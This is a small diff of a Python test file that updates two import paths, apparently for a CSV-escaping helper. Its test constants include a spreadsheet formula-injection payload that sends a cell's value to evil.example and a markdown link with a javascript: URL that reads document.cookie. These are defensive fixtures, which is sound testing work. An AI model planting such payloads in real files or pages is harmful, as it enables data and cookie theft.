@@ -8,8 +8,8 @@ import re
 import pytest
 from review_helpers import approve
 
-from core.governance import decision, record
-from core.textsafe import csv_cell
+from core.decision import decision, record
+from core.domain.textsafe import csv_cell
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 LINK = "[Open the report](javascript:alert(document.cookie))"
